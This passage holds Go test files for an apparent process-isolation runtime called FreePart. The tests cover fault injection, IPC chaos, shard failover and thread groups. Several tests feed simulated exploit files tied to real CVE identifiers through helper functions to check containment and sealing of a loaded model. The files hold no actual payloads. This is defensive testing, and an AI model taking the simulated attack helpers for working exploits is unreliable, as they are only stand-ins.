// TestIPCFaultsRetriedWithinBudget runs the pipeline under message-level
// chaos only — drops, duplication, corruption — and checks the retry path:
// the pipeline completes with baseline-identical output and the retries are
// counted.
func TestIPCFaultsRetriedWithinBudget(t *testing.T) {
	baseline := cleanPipeline(t)
	eng := chaos.New(chaos.Plan{
		Seed: 11,
		IPC:  chaos.IPCPlan{DropProb: 0.3, DupProb: 0.3, CorruptProb: 0.3},
	})
	k, rt := setup(t, core.ChaosConfig(eng))
	writeImage(k, "/in.img", 8, 8)
	out := runPipeline(t, rt)
	if !bytes.Equal(out, baseline) {
		t.Fatal("output diverged under IPC faults")
	}
	if eng.Injected() == 0 {
		t.Fatal("no IPC faults fired; raise probabilities or change seed")
	}
	if snap := rt.Metrics.Snapshot(); snap.Retries == 0 {
		t.Fatalf("no retries recorded despite injected faults:\n%s", eng.Log())
	}
	if snap := rt.Metrics.Snapshot(); snap.Restarts != 0 {
		t.Fatalf("pure message faults caused %d restarts, want 0", snap.Restarts)
	}
}

// TestMemFaultStormDegradesGracefully makes every write into an agent space
// fault. Each partition that takes a write crash-loops until the breaker
// demotes it, and the pipeline still completes with correct output — the
// full graceful-degradation ladder, end to end.
func TestMemFaultStormDegradesGracefully(t *testing.T) {
	baseline := cleanPipeline(t)
	eng := chaos.New(chaos.Plan{Seed: 1, Mem: chaos.MemPlan{FaultProb: 1}})
	cfg := core.ChaosConfig(eng)
	cfg.BreakerThreshold = 2
	k, rt := setup(t, cfg)
	writeImage(k, "/in.img", 8, 8)
	out := runPipeline(t, rt)
	if !bytes.Equal(out, baseline) {
		t.Fatal("output diverged under the mem-fault storm")
	}
	if !rt.Host.Alive() {
		t.Fatal("host must survive")
	}
	snap := rt.Metrics.Snapshot()
	if snap.Degraded == 0 {
		t.Fatalf("mem-fault storm should degrade at least one partition: %+v", snap)
	}
	if snap.InjectedFaults == 0 {
		t.Fatal("no faults recorded")
	}
}

// TestConcurrentRestartDeadSingleRestart crashes one agent and then races
// many RestartDead supervisors (plus direct observers of the same crash):
// the process must be restarted exactly once, with no endpoint leaks and a
// working partition afterwards. Run with -race.
func TestConcurrentRestartDeadSingleRestart(t *testing.T) {
	k, rt := setup(t, core.Default())
	writeImage(k, "/in.img", 8, 8)
	lp, _ := rt.AgentForType(framework.TypeLoading)
	base := lp.Restarts()
	k.Crash(lp, "induced for concurrency test")

	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			if err := rt.RestartDead(); err != nil {
				t.Errorf("RestartDead: %v", err)
			}
		}()
	}
	wg.Wait()

	if !lp.Alive() {
		t.Fatal("loading agent should be alive")
	}
	if got := lp.Restarts() - base; got != 1 {
		t.Fatalf("process restarted %d times, want exactly 1", got)
	}
	if snap := rt.Metrics.Snapshot(); snap.Restarts != 1 {
		t.Fatalf("metrics restarts = %d, want 1", snap.Restarts)
	}
	if got := len(k.Processes()); got != 5 {
		t.Fatalf("%d processes after concurrent restart, want 5", got)
	}
	if got := rt.EndpointCount(); got != 5 {
		t.Fatalf("%d endpoints after concurrent restart, want 5", got)
	}
	if _, _, err := rt.Call("cv.imread", framework.Str("/in.img")); err != nil {
		t.Fatalf("post-restart imread: %v", err)
	}
}
