package core_test

import (
	"sync"
	"testing"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/kernel"
)

// threadGroup builds an n-thread group over one kernel.
func threadGroup(t *testing.T, n int) (*kernel.Kernel, *core.ThreadGroup) {
	t.Helper()
	k := kernel.New()
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	g, err := core.NewThreadGroup(k, reg, cat, core.Default(), n)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(g.Close)
	return k, g
}

func TestThreadGroupProcessLayout(t *testing.T) {
	k, g := threadGroup(t, 3)
	if g.Len() != 3 {
		t.Fatalf("len = %d", g.Len())
	}
	// One shared host + 4 agents per thread. (The two placeholder hosts
	// of threads 1 and 2 exit immediately at adoption.)
	running := 0
	for _, p := range k.Processes() {
		if p.Alive() {
			running++
		}
	}
	if running != 1+3*4 {
		t.Fatalf("running processes = %d, want 13", running)
	}
	// Every thread shares the same host process.
	for i := 0; i < g.Len(); i++ {
		if g.Thread(i).Host != g.Host {
			t.Fatalf("thread %d has its own host", i)
		}
	}
	// But each thread has distinct agents.
	a0, _ := g.Thread(0).AgentForType(framework.TypeLoading)
	a1, _ := g.Thread(1).AgentForType(framework.TypeLoading)
	if a0 == a1 {
		t.Fatal("threads share a loading agent")
	}
}

func TestThreadGroupConcurrentPipelines(t *testing.T) {
	k, g := threadGroup(t, 4)
	for i := 0; i < 4; i++ {
		writeImage(k, pathFor(i), 8, 8)
	}
	var wg sync.WaitGroup
	errs := make([]error, 4)
	for i := 0; i < 4; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			rt := g.Thread(i)
			img, _, err := rt.Call("cv.imread", framework.Str(pathFor(i)))
			if err != nil {
				errs[i] = err
				return
			}
			blur, _, err := rt.Call("cv.GaussianBlur", img[0].Value())
			if err != nil {
				errs[i] = err
				return
			}
			_, _, errs[i] = rt.Call("cv.imwrite", framework.Str(pathFor(i)+".out"), blur[0].Value())
		}(i)
	}
	wg.Wait()
	for i, err := range errs {
		if err != nil {
			t.Fatalf("thread %d: %v", i, err)
		}
		if !k.FS.Exists(pathFor(i) + ".out") {
			t.Fatalf("thread %d produced no output", i)
		}
	}
}

func pathFor(i int) string {
	return "/thread-" + string(rune('a'+i)) + ".img"
}

func TestThreadCrashIsolatedToItsAgents(t *testing.T) {
	k, g := threadGroup(t, 2)
	writeImage(k, "/ok.img", 8, 8)
	k.FS.WriteFile("/evil.img", framework.Trigger("CVE-2017-14136", nil))

	// Thread 0 eats the exploit; its loading agent dies (then restarts).
	if _, _, err := g.Thread(0).Call("cv.imread", framework.Str("/evil.img")); err == nil {
		t.Fatal("exploit should error")
	}
	// Thread 1 is untouched throughout.
	if _, _, err := g.Thread(1).Call("cv.imread", framework.Str("/ok.img")); err != nil {
		t.Fatalf("thread 1 affected by thread 0's exploit: %v", err)
	}
	if !g.Host.Alive() {
		t.Fatal("shared host must survive")
	}
}

func TestThreadsShareHostCriticalData(t *testing.T) {
	k, g := threadGroup(t, 2)
	writeImage(k, "/in.img", 8, 8)
	// Thread 0 registers critical data; after it loads, the data is
	// read-only for the whole (shared) host space.
	crit, err := g.Host.Space().Alloc(32)
	if err != nil {
		t.Fatal(err)
	}
	_ = g.Host.Space().Store(crit.Base, []byte("shared"))
	g.Thread(0).RegisterCritical(crit)
	if _, _, err := g.Thread(0).Call("cv.imread", framework.Str("/in.img")); err != nil {
		t.Fatal(err)
	}
	if err := g.Host.Space().Store(crit.Base, []byte("x")); err == nil {
		t.Fatal("critical data should be sealed for every thread")
	}
}

// TestConcurrentCrossTypeCallsOneRuntime hammers a single runtime with
// overlapping calls across every API type from many goroutines. Before the
// seq-multiplexed IPC layer, two concurrent calls to one agent could steal
// each other's responses; now the demux routes each response to its caller,
// so one runtime safely serves concurrent work (verified under -race).
func TestConcurrentCrossTypeCallsOneRuntime(t *testing.T) {
	k, g := threadGroup(t, 1)
	rt := g.Thread(0)
	const workers = 8
	for i := 0; i < workers; i++ {
		writeImage(k, pathFor(i), 8, 8)
	}
	var wg sync.WaitGroup
	errs := make([]error, workers)
	for i := 0; i < workers; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			// Each worker crosses all four API types: loading (imread),
			// processing (GaussianBlur), visualizing (imshow), storing
			// (imwrite) — on the SAME runtime, concurrently.
			img, _, err := rt.Call("cv.imread", framework.Str(pathFor(i)))
			if err != nil {
				errs[i] = err
				return
			}
			blur, _, err := rt.Call("cv.GaussianBlur", img[0].Value())
			if err != nil {
				errs[i] = err
				return
			}
			if _, _, err := rt.Call("cv.imshow", framework.Str(pathFor(i)), blur[0].Value()); err != nil {
				errs[i] = err
				return
			}
			_, _, errs[i] = rt.Call("cv.imwrite", framework.Str(pathFor(i)+".out"), blur[0].Value())
		}(i)
	}
	wg.Wait()
	for i, err := range errs {
		if err != nil {
			t.Fatalf("worker %d: %v", i, err)
		}
		if !k.FS.Exists(pathFor(i) + ".out") {
			t.Fatalf("worker %d produced no output", i)
		}
	}
}

func TestThreadGroupInvalidSize(t *testing.T) {
	k := kernel.New()
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	if _, err := core.NewThreadGroup(k, reg, cat, core.Default(), 0); err == nil {
		t.Fatal("n=0 should fail")
	}
}
