package core_test

import (
	"math/rand"
	"testing"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/attack"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/kernel"
)

// TestFaultInjectionPipelineSurvives kills random agents between pipeline
// steps; with the restart supervisor the pipeline must always complete
// once each step is retried, and the final output must equal the
// fault-free run.
func TestFaultInjectionPipelineSurvives(t *testing.T) {
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()

	run := func(seed int64, inject bool) []byte {
		k := kernel.New()
		rt, err := core.New(k, reg, cat, core.Default())
		if err != nil {
			t.Fatal(err)
		}
		defer rt.Close()
		writeImage(k, "/in.img", 16, 16)
		rng := rand.New(rand.NewSource(seed))

		// step retries until the call survives agent crashes.
		step := func(api string, args ...framework.Value) []core.Handle {
			if inject && rng.Intn(2) == 0 {
				procs := rt.Agents()
				k.Crash(procs[rng.Intn(len(procs))], "injected")
			}
			for attempt := 0; attempt < 4; attempt++ {
				h, _, err := rt.Call(api, args...)
				if err == nil {
					return h
				}
				if rerr := rt.RestartDead(); rerr != nil {
					t.Fatalf("restart: %v", rerr)
				}
			}
			t.Fatalf("%s never succeeded after restarts", api)
			return nil
		}

		img := step("cv.imread", framework.Str("/in.img"))
		blur := step("cv.GaussianBlur", img[0].Value())
		er := step("cv.erode", blur[0].Value())
		step("cv.imwrite", framework.Str("/out.img"), er[0].Value())
		out, err := rt.Fetch(er[0])
		if err != nil {
			// The producing agent may have been killed after the call;
			// re-run the last step.
			er = step("cv.erode", blur[0].Value())
			out, err = rt.Fetch(er[0])
			if err != nil {
				t.Fatal(err)
			}
		}
		if !rt.Host.Alive() {
			t.Fatal("host must always survive injected agent faults")
		}
		return out
	}

	clean := run(1, false)
	for seed := int64(2); seed < 8; seed++ {
		faulty := run(seed, true)
		if string(faulty) != string(clean) {
			t.Fatalf("seed %d: output diverged under fault injection", seed)
		}
	}
}

// TestApplicationErrorsCrossRPCBoundary verifies §A.2.1's requirement that
// runtime exceptions inside partitioned framework calls surface to the
// host program's error handling unchanged (our try/catch equivalent).
func TestApplicationErrorsCrossRPCBoundary(t *testing.T) {
	k, rt := setup(t, core.Default())
	// A decode failure inside the loading agent is an application-level
	// error: it must come back as an error without killing anything.
	k.FS.WriteFile("/garbage", []byte("not an image at all"))
	_, _, err := rt.Call("cv.imread", framework.Str("/garbage"))
	if err == nil {
		t.Fatal("decode failure should surface as an error")
	}
	for _, p := range k.Processes() {
		if !p.Alive() {
			t.Fatalf("%s died on an application error", p.Name())
		}
	}
	// The pipeline continues normally afterwards.
	writeImage(k, "/ok.img", 8, 8)
	if _, _, err := rt.Call("cv.imread", framework.Str("/ok.img")); err != nil {
		t.Fatalf("recovery call failed: %v", err)
	}
}

// TestSubPartitionedAgents exercises §A.6's manual sub-partitioning: the
// data-loading type split into two agent processes (classifier loads vs
// everything else), with the pipeline still correct.
func TestSubPartitionedAgents(t *testing.T) {
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	cfg := core.Default()
	cfg.Partitions = 5
	cfg.PartitionOf = func(api *framework.API) int {
		if api.Name == "cv.CascadeClassifier" {
			return 4 // its own data-loading sub-partition
		}
		switch cat.TypeOf(api.Name) {
		case framework.TypeLoading:
			return 0
		case framework.TypeProcessing:
			return 1
		case framework.TypeVisualizing:
			return 2
		case framework.TypeStoring:
			return 3
		}
		return 1
	}
	k := kernel.New()
	rt, err := core.New(k, reg, cat, cfg)
	if err != nil {
		t.Fatal(err)
	}
	defer rt.Close()
	if got := len(k.Processes()); got != 6 {
		t.Fatalf("%d processes, want 6 (host + 5 sub-partitions)", got)
	}
	// Classifier loads in partition 4; detection in the processing
	// partition; the model object crosses between them lazily.
	k.FS.WriteFile("/model.xml", []byte("CASC"))
	// Write a valid classifier.
	k.FS.WriteFile("/model.xml", validClassifier())
	writeImage(k, "/in.img", 16, 16)
	model, _, err := rt.Call("cv.CascadeClassifier", framework.Str("/model.xml"))
	if err != nil {
		t.Fatal(err)
	}
	img, _, err := rt.Call("cv.imread", framework.Str("/in.img"))
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := rt.Call("cv.CascadeClassifier.detectMultiScale", model[0].Value(), img[0].Value()); err != nil {
		t.Fatal(err)
	}
	// A crash in the classifier sub-partition leaves the main loading
	// partition alive. Identify the sub-partition by the model's owner
	// space.
	modelSpace, _, ok := rt.Locate(model[0])
	if !ok {
		t.Fatal("cannot locate model")
	}
	var sub *kernel.Process
	for _, p := range k.Processes() {
		if p.Space() == modelSpace {
			sub = p
		}
	}
	if sub == nil {
		t.Fatal("no process owns the model")
	}
	k.Crash(sub, "injected")
	if _, _, err := rt.Call("cv.imread", framework.Str("/in.img")); err != nil {
		t.Fatalf("main loading partition should be unaffected: %v", err)
	}
}

// validClassifier builds the 9-byte cascade format inline.
func validClassifier() []byte {
	return []byte{'C', 'A', 'S', 'C', 100, 0, 0, 0, 4}
}

// TestDerefCacheReusesModel verifies the LDC deref cache: a model consumed
// repeatedly by the processing agent is copied across once, not per call.
func TestDerefCacheReusesModel(t *testing.T) {
	k, rt := setup(t, core.Default())
	k.FS.WriteFile("/model.xml", validClassifier())
	writeImage(k, "/in.img", 16, 16)
	model, _, err := rt.Call("cv.CascadeClassifier", framework.Str("/model.xml"))
	if err != nil {
		t.Fatal(err)
	}
	img, _, _ := rt.Call("cv.imread", framework.Str("/in.img"))
	if _, _, err := rt.Call("cv.CascadeClassifier.detectMultiScale", model[0].Value(), img[0].Value()); err != nil {
		t.Fatal(err)
	}
	after1 := rt.Metrics.Snapshot().LazyCopies
	for i := 0; i < 5; i++ {
		if _, _, err := rt.Call("cv.CascadeClassifier.detectMultiScale", model[0].Value(), img[0].Value()); err != nil {
			t.Fatal(err)
		}
	}
	after6 := rt.Metrics.Snapshot().LazyCopies
	// The model and image are cached after the first detect; later calls
	// add no lazy copies.
	if after6 != after1 {
		t.Fatalf("lazy copies grew %d -> %d; deref cache not reusing", after1, after6)
	}
}

// TestDerefCacheInvalidatedByMutation verifies that mutating an object in
// its owner (fresh content hash on the next reply) defeats stale cache
// entries: consumers always see current bytes.
func TestDerefCacheInvalidatedByMutation(t *testing.T) {
	k, rt := setup(t, core.Default())
	writeImage(k, "/in.img", 8, 8)
	img, _, _ := rt.Call("cv.imread", framework.Str("/in.img"))
	// First blur pulls v1 of the image into the processing agent.
	b1, _, err := rt.Call("cv.GaussianBlur", img[0].Value())
	if err != nil {
		t.Fatal(err)
	}
	v1, _ := rt.Fetch(b1[0])
	// Mutate the image via an in-place draw executed in its own agent
	// context (rectangle is DP, so it operates on a copy — instead draw
	// through the loading agent by making the canvas cross and come back).
	boxed, _, err := rt.Call("cv.rectangle", img[0].Value(),
		framework.Int64(0), framework.Int64(0), framework.Int64(6), framework.Int64(6))
	if err != nil {
		t.Fatal(err)
	}
	// Blur the mutated canvas: its ref carries a fresh hash, so the cache
	// misses and the agent sees the rectangle.
	b2, _, err := rt.Call("cv.GaussianBlur", boxed[0].Value())
	if err != nil {
		t.Fatal(err)
	}
	v2, _ := rt.Fetch(b2[0])
	if string(v1) == string(v2) {
		t.Fatal("consumer saw stale bytes after mutation")
	}
}

// TestSealObjectBlocksIntraAgentCorruption demonstrates the §7 extension:
// PKU-style intra-process domains protect agent-resident data (a loaded
// model) from a payload executing inside the same compromised agent —
// the attack FreePart's process isolation alone cannot stop.
func TestSealObjectBlocksIntraAgentCorruption(t *testing.T) {
	k, rt := setup(t, core.Default())
	k.FS.WriteFile("/model.xml", validClassifier())
	model, _, err := rt.Call("cv.CascadeClassifier", framework.Str("/model.xml"))
	if err != nil {
		t.Fatal(err)
	}
	if err := rt.SealObject(model[0], 3); err != nil {
		t.Fatal(err)
	}
	space, region, _ := rt.Locate(model[0])
	before, _ := space.Load(region.Base, 4)

	// Without the seal this write would succeed: it targets the model's
	// address inside the very agent the exploit compromises.
	log := &attack.Log{}
	rt.OnExploit = log.Handler()
	k.FS.WriteFile("/evil.img", attack.Corrupt("CVE-2017-12597", region.Base, []byte{9, 9, 9, 9}))
	_, _, _ = rt.Call("cv.imread", framework.Str("/evil.img"))

	if out := log.Last(); out == nil || !out.Fired {
		t.Fatal("exploit should have fired inside the loading agent")
	} else if out.Corrupted {
		t.Fatal("sealed model must not be corrupted")
	}
	after, _ := space.Load(region.Base, 4)
	if string(before) != string(after) {
		t.Fatal("model bytes changed")
	}
	// The legitimate consumer still reads the model: re-load the runtime's
	// loading agent (the wild write crashed it) and detect again.
	if err := rt.RestartDead(); err != nil {
		t.Fatal(err)
	}
}

// TestSealObjectWithoutSealCorrupts is the control: the same intra-agent
// attack succeeds when the model is not sealed, motivating the extension.
func TestSealObjectWithoutSealCorrupts(t *testing.T) {
	k, rt := setup(t, core.Default())
	k.FS.WriteFile("/model.xml", validClassifier())
	model, _, err := rt.Call("cv.CascadeClassifier", framework.Str("/model.xml"))
	if err != nil {
		t.Fatal(err)
	}
	space, region, _ := rt.Locate(model[0])
	log := &attack.Log{}
	rt.OnExploit = log.Handler()
	k.FS.WriteFile("/evil.img", attack.Corrupt("CVE-2017-12597", region.Base, []byte{9, 9, 9, 9}))
	_, _, _ = rt.Call("cv.imread", framework.Str("/evil.img"))
	if out := log.Last(); out == nil || !out.Corrupted {
		t.Fatalf("unsealed intra-agent corruption should succeed: %+v", out)
	}
	got, _ := space.Load(region.Base, 4)
	if got[0] != 9 {
		t.Fatal("model should be corrupted in the control case")
	}
}
