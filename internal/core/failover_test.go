package core_test

import (
	"fmt"
	"reflect"
	"testing"
	"time"

	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/ipc"
	"freepart.dev/freepart/internal/vclock"
)

// trackRun serves deterministic tracking streams on n protected shards,
// optionally scheduling a shard kill, and returns results plus the executor
// for post-mortem inspection. bootAndEnd reports shard 0's clock before and
// after serving, so callers can aim a kill inside the serving window.
func trackRun(t *testing.T, n, streams, steps int, kill func(*core.Executor)) ([]apps.TrackResult, *core.Executor, [2]vclock.Duration) {
	t.Helper()
	ex := newExecutor(t, n, core.Default())
	ex.SetHealthPolicy(core.HealthPolicy{FailThreshold: 1})
	if kill != nil {
		kill(ex)
	}
	boot := ex.Shard(0).Clock().Now()
	srv := apps.ProvisionTracking(ex)
	results := srv.ServeStreams(apps.GenTrackStreams(9, streams, steps))
	return results, ex, [2]vclock.Duration{boot, ex.Shard(0).Clock().Now()}
}

// requireCleanResults fails on any per-stream error.
func requireCleanResults(t *testing.T, results []apps.TrackResult) {
	t.Helper()
	for i, r := range results {
		if r.Err != nil {
			t.Fatalf("stream %d: %v", i, r.Err)
		}
	}
}

// TestFailoverMigratesTrackingState is the tentpole's end-to-end check: a
// shard serving stateful sessions is killed mid-stream, its sessions
// migrate to a replacement with their Kalman state materialized from the
// portable checkpoint log, and every final filtered position is identical
// to a fault-free run — the migrated state was exact, not approximate.
func TestFailoverMigratesTrackingState(t *testing.T) {
	const shards, streams, steps = 2, 6, 10

	baseline, _, window := trackRun(t, shards, streams, steps, nil)
	requireCleanResults(t, baseline)

	// Aim the kill at the middle of shard 0's serving window (boot and
	// serving costs are deterministic, so the baseline's window is also the
	// kill run's window up to the kill itself).
	killAt := (window[0] + window[1]) / 2
	killed, ex, _ := trackRun(t, shards, streams, steps, func(e *core.Executor) {
		e.ScheduleKill(0, killAt)
	})
	requireCleanResults(t, killed)

	if !reflect.DeepEqual(killed, baseline) {
		t.Fatalf("failover changed outputs:\nkilled:   %+v\nbaseline: %+v", killed, baseline)
	}

	m := ex.Metrics().Snapshot()
	if m.ShardDrains != 1 {
		t.Fatalf("drains = %d, want 1", m.ShardDrains)
	}
	// Sessions 0, 2, 4 are pinned to shard 0; all must have migrated clean.
	if m.Migrations != 3 || m.FailedMigrations != 0 {
		t.Fatalf("migrations = %d (failed %d), want 3 clean", m.Migrations, m.FailedMigrations)
	}
	if got := ex.Shard(0).Gen; got != 1 {
		t.Fatalf("shard 0 generation = %d, want 1 after one failover", got)
	}
	if st := ex.CheckpointLog().Stats(); st.Adoptions != 3 {
		t.Fatalf("checkpoint adoptions = %d, want 3", st.Adoptions)
	}

	// The failover event log for the killed shard replays deterministically.
	again, ex2, _ := trackRun(t, shards, streams, steps, func(e *core.Executor) {
		e.ScheduleKill(0, killAt)
	})
	requireCleanResults(t, again)
	if !reflect.DeepEqual(again, killed) {
		t.Fatal("two identical kill runs diverged")
	}
	if ev, ev2 := ex.FailoverEventsFor(0), ex2.FailoverEventsFor(0); !reflect.DeepEqual(ev, ev2) {
		t.Fatalf("failover event logs diverged across replays:\n%v\nvs\n%v", ev, ev2)
	}
}

// TestChainedFailover kills the same shard id twice with steps in between:
// the second failover must restore state that already went through one
// adoption, which only works because Adopt re-appends migrated state to the
// log under its new slot. Final state must match an unkilled run exactly.
func TestChainedFailover(t *testing.T) {
	run := func(killAfter []int) (x, y float64) {
		ex := newExecutor(t, 1, core.Default())
		ex.SetHealthPolicy(core.HealthPolicy{FailThreshold: 1})
		s := ex.Session()

		// Seed the filter state (one stateful call, so it is in the log).
		if err := s.Do(func(sh *core.Shard) error {
			h, _, err := sh.Ex.Call("torch.tensor", framework.Int64(4), framework.Float64(0))
			if err != nil {
				return err
			}
			if _, _, err := sh.Ex.Call("cv.KalmanFilter.correct",
				h[0].Value(), framework.Float64(10), framework.Float64(20)); err != nil {
				return err
			}
			s.Bind("state", h[0])
			return nil
		}); err != nil {
			t.Fatal(err)
		}

		kills := map[int]bool{}
		for _, k := range killAfter {
			kills[k] = true
		}
		for step := 0; step < 8; step++ {
			err := s.Do(func(sh *core.Shard) error {
				h, _ := s.Bound("state")
				_, plain, err := sh.Ex.Call("cv.KalmanFilter.correct",
					h.Value(), framework.Float64(float64(10+3*step)), framework.Float64(float64(20-2*step)))
				if err != nil {
					return err
				}
				x, y = plain[0].Float, plain[1].Float
				return nil
			})
			if err != nil {
				t.Fatalf("step %d: %v", step, err)
			}
			if kills[step] {
				ex.KillShard(0, fmt.Sprintf("test kill after step %d", step))
			}
		}
		return x, y
	}

	bx, by := run(nil)
	kx, ky := run([]int{2, 5}) // two losses of the same shard id
	if kx != bx || ky != by {
		t.Fatalf("chained failover diverged: (%v, %v) vs baseline (%v, %v)", kx, ky, bx, by)
	}
}

// TestDetectionFailoverDeterministic is the acceptance scenario: a 4-shard
// detection service loses shard 2 mid-stream; every response — including
// those of migrated sessions — is identical to the fault-free baseline,
// across two independent replays.
func TestDetectionFailoverDeterministic(t *testing.T) {
	const shards, requests = 4, 24

	var killAt vclock.Duration // 0 on the baseline pass; set mid-window after
	run := func(kill bool) ([]apps.DetectionResult, *core.Executor) {
		ex := newExecutor(t, shards, core.Default())
		ex.SetHealthPolicy(core.HealthPolicy{FailThreshold: 1})
		srv, err := apps.ProvisionDetection(ex)
		if err != nil {
			t.Fatal(err)
		}
		if kill {
			ex.ScheduleKill(2, killAt)
		}
		start := ex.Shard(2).Clock().Now()
		results := srv.Serve(apps.GenDetectionRequests(7, requests))
		if !kill {
			killAt = (start + ex.Shard(2).Clock().Now()) / 2
		}
		return results, ex
	}

	baseline, _ := run(false)
	for i, r := range baseline {
		if r.Err != nil {
			t.Fatalf("baseline request %d: %v", i, r.Err)
		}
	}

	killed, ex := run(true)
	for i, r := range killed {
		if r.Err != nil {
			t.Fatalf("killed-run request %d: %v", i, r.Err)
		}
	}
	if !reflect.DeepEqual(killed, baseline) {
		t.Fatalf("losing shard 2 changed responses:\nkilled:   %+v\nbaseline: %+v", killed, baseline)
	}
	if ex.Metrics().Snapshot().ShardDrains != 1 {
		t.Fatalf("drains = %d, want 1", ex.Metrics().Snapshot().ShardDrains)
	}
	if got := len(ex.Incarnations(2)); got != 2 {
		t.Fatalf("shard 2 incarnations = %d, want 2", got)
	}

	again, ex2 := run(true)
	if !reflect.DeepEqual(again, killed) {
		t.Fatal("two identical kill runs diverged")
	}
	if ev, ev2 := ex.FailoverEventsFor(2), ex2.FailoverEventsFor(2); !reflect.DeepEqual(ev, ev2) {
		t.Fatalf("failover event logs diverged:\n%v\nvs\n%v", ev, ev2)
	}
}

// TestQueueWaitRecorded pins DoAt's queueing semantics: a request arriving
// while the shard is busy waits (latency = wait + service), a request
// arriving after the shard went idle advances the clock to its arrival and
// waits zero.
func TestQueueWaitRecorded(t *testing.T) {
	reg := all.Registry()
	ex, err := core.NewExecutor(1, core.DirectShards(reg))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	ex.Shard(0).Clock().Reset() // discard boot cost: measure from t=0
	s := ex.Session()

	// First request arrives at t=100µs on an idle shard: clock jumps to the
	// arrival, service takes 50µs.
	if err := s.DoAt(100*time.Microsecond, func(sh *core.Shard) error {
		sh.K.Clock.Advance(50 * time.Microsecond)
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if now := ex.Shard(0).Clock().Now(); now != 150*time.Microsecond {
		t.Fatalf("clock = %v, want 150µs", now)
	}
	// Second request arrived at t=120µs — while the first was in service —
	// so it queued 30µs; its latency is 30µs wait + 10µs service.
	if err := s.DoAt(120*time.Microsecond, func(sh *core.Shard) error {
		sh.K.Clock.Advance(10 * time.Microsecond)
		return nil
	}); err != nil {
		t.Fatal(err)
	}

	wantLat := []vclock.Duration{50 * time.Microsecond, 40 * time.Microsecond}
	if got := []vclock.Duration{ex.Latencies().Percentile(0), ex.Latencies().Percentile(100)}; got[0] != wantLat[1] || got[1] != wantLat[0] {
		t.Fatalf("latencies = %v, want min 40µs max 50µs", got)
	}
	if got := ex.QueueWaits().Percentile(100); got != 30*time.Microsecond {
		t.Fatalf("max queue wait = %v, want 30µs", got)
	}
	if got := ex.QueueWaits().Percentile(0); got != 0 {
		t.Fatalf("min queue wait = %v, want 0", got)
	}
}

// TestDoArrivesAtAdmission pins Do's backward compatibility: no arrival
// stamp means zero queueing delay, so latency is pure service time.
func TestDoArrivesAtAdmission(t *testing.T) {
	reg := all.Registry()
	ex, err := core.NewExecutor(1, core.DirectShards(reg))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	s := ex.Session()
	ex.Shard(0).Clock().Advance(500 * time.Microsecond) // pre-existing work
	if err := s.Do(func(sh *core.Shard) error {
		sh.K.Clock.Advance(7 * time.Microsecond)
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if got := ex.Latencies().Percentile(100); got != 7*time.Microsecond {
		t.Fatalf("latency = %v, want 7µs (service only)", got)
	}
	if got := ex.QueueWaits().Percentile(100); got != 0 {
		t.Fatalf("queue wait = %v, want 0", got)
	}
}

// TestKillShardReplacesAndLogsEvents checks the failover state machine on
// direct shards: kill → (on next invocation) drain → replace → migrate,
// with the event log and counters recording each step.
func TestKillShardReplacesAndLogsEvents(t *testing.T) {
	reg := all.Registry()
	ex, err := core.NewExecutor(2, core.DirectShards(reg))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	s := ex.Session() // pinned to shard 0
	old := ex.Shard(0)

	ex.KillShard(0, "test")
	if err := s.Do(func(sh *core.Shard) error {
		if sh == old {
			return fmt.Errorf("job ran on the killed shard")
		}
		sh.K.Clock.Advance(1)
		return nil
	}); err != nil {
		t.Fatal(err)
	}

	repl := ex.Shard(0)
	if repl == old || repl.Gen != 1 {
		t.Fatalf("shard 0 not replaced (gen %d)", repl.Gen)
	}
	if !old.Failed() {
		t.Fatal("killed shard not marked failed")
	}
	m := ex.Metrics().Snapshot()
	if m.ShardDrains != 1 || m.Migrations != 1 {
		t.Fatalf("metrics = drains %d migrations %d, want 1/1", m.ShardDrains, m.Migrations)
	}
	kinds := []string{}
	for _, ev := range ex.FailoverEventsFor(0) {
		kinds = append(kinds, ev.Kind)
	}
	want := []string{"kill", "drain", "replace", "migrate"}
	if !reflect.DeepEqual(kinds, want) {
		t.Fatalf("event kinds = %v, want %v", kinds, want)
	}
}

// TestHealthPolicyFailThreshold checks the failure window: crash-class
// errors surfacing from jobs trip the threshold, the shard drains, and the
// failing invocation re-runs on the replacement so the caller sees success.
func TestHealthPolicyFailThreshold(t *testing.T) {
	reg := all.Registry()
	ex, err := core.NewExecutor(1, core.DirectShards(reg))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	ex.SetHealthPolicy(core.HealthPolicy{FailThreshold: 2, FailWindow: time.Second})
	s := ex.Session()

	// First crash-class failure: under threshold, error surfaces.
	errTimeout := fmt.Errorf("call: %w", ipc.ErrTimeout)
	if err := s.Do(func(sh *core.Shard) error { return errTimeout }); err == nil {
		t.Fatal("first crash-class error should surface (threshold not reached)")
	}
	if ex.Shard(0).Failed() {
		t.Fatal("shard drained below threshold")
	}

	// Second failure trips the threshold mid-invocation: the shard drains
	// and the invocation re-runs on the replacement, which succeeds.
	attempts := 0
	err = s.Do(func(sh *core.Shard) error {
		attempts++
		if sh.Gen == 0 {
			return errTimeout
		}
		sh.K.Clock.Advance(1)
		return nil
	})
	if err != nil {
